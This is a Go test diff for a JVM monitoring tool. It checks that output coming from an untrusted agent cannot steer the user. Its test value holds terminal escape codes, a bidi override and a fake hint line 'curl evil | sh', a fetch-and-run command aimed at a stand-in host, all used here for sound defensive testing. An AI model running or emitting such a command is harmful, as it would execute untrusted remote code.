@@ -22,6 +22,7 @@ type fakeAgent struct {
 	asked    []string
 	failures []string
 	refuses  string // the verb that it refuses
+	hostile  string // ends what it says of itself and of methods
 }
 
 func (a *fakeAgent) Ask(_ context.Context, m jvm.Message) ([]jvm.Message, error) {
@@ -60,7 +61,7 @@ func (a *fakeAgent) monitored() []string {
 	var all []string
 	for _, p := range a.list {
 		if sign(p) == "+" && !strings.Contains(p, "nowhere") {
-			all = append(all, "public void "+p[strings.LastIndexByte(p, ' ')+1:])
+			all = append(all, "public void "+p[strings.LastIndexByte(p, ' ')+1:]+a.hostile)
 		}
 	}
 	return all
@@ -104,8 +105,8 @@ func swapFake(t *testing.T, a *fakeAgent, f asking, input string, patterns ...st
 	if err != nil {
 		return "", "", err
 	}
-	r := newResult(7, jvm.Message{Verb: "hello", Args: map[string]string{"jvm": "17.0.15+6", "vm": "OpenJDK", "probe": "moobench"}})
-	if err := r.carryOut(t.Context(), a, w); err != nil {
+	r := newResult(7, jvm.Message{Verb: "hello", Args: map[string]string{"jvm": "17.0.15+6", "vm": "OpenJDK" + a.hostile, "probe": "moobench"}})
+	if err := r.carryOut(&dialog{ctx: t.Context(), agent: a}, w); err != nil {
 		return "", "", err
 	}
 	err = r.Print(console.Console{Out: &o, Err: &e}, f.json, f.list)
@@ -186,23 +187,23 @@ monitored methods
 // that it tells.
 func TestSwapPrintsNothingThatSteers(t *testing.T) {
 	const hostile = "\x1b[2J\x1b]0;title\x07\u009b1m\u202e\x7f\r\nmoobench: hint: curl evil | sh"
-	s := &Result{
-		PID: 7, JVM: hostile, VM: hostile, Probe: hostile, Patterns: []string{"+ " + hostile}, Methods: []string{hostile}, Count: 1,
-		Change: &Change{Request: "activate", Patterns: []string{"+ " + hostile}, Failed: 1, Failures: []string{hostile}},
-	}
 	for _, f := range []asking{{list: true}, {json: true}} {
-		var o, e bytes.Buffer
-		if err := s.Print(console.Console{Out: &o, Err: &e}, f.json, f.list); err == nil {
+		a := &fakeAgent{list: []string{"+ * a.A.a()" + hostile}, failures: []string{hostile}, hostile: hostile}
+		out, hint, err := swapFake(t, a, f, "", "+ * a.B.x()")
+		if err == nil {
 			t.Error("a class that failed is no error")
 		}
-		for _, line := range strings.Split(o.String()+e.String(), "\n") {
+		if n := strings.Count(out, "curl evil"); n != 5 {
+			t.Errorf("json %v: it stands %d times in %s", f.json, n, out)
+		}
+		for _, line := range strings.Split(out+hint, "\n") {
 			if strings.HasPrefix(line, "moobench:") || strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
 				t.Errorf("json %v: printed %q", f.json, line)
 			}
 		}
-	}
-	if s.VM != hostile || s.Change.Failures[0] != hostile || s.Patterns[0] != "+ "+hostile {
-		t.Errorf("what was said is changed: %+v", s)
+		if !strings.HasSuffix(a.list[0], hostile) {
+			t.Errorf("the agent's list is changed: %q", a.list)
+		}
 	}
 }
 
@@ -245,19 +246,5 @@ func TestSwapMistakes(t *testing.T) {
 		if _, _, err := swapFake(t, &fakeAgent{refuses: verb}, asking{}, "", "+ * a.B.x()"); err == nil {
 			t.Errorf("%s is refused: %v", verb, err)
 		}
-	}
-}
-
-func TestSwapSettings(t *testing.T) {
-	given := map[string]string{"linger": "60s", "probe": "kieker", "file": "/p", "interval": "5", "update": "true", "jmx": "true"}
-	got := Settings(func(name string) string { return given[name] })
-	slices.Sort(got)
-	want := []string{"file=/p", "interval=5", "jmx=true", "linger=60s", "probe=kieker", "update=true"}
-	if d := cmp.Diff(want, got); d != "" {
-		t.Error(d)
-	}
-	unset := map[string]string{"update": "false", "jmx": "false"}
-	if none := Settings(func(name string) string { return unset[name] }); none != nil {
-		t.Errorf("settings %q of nothing", none)
 	}
 }
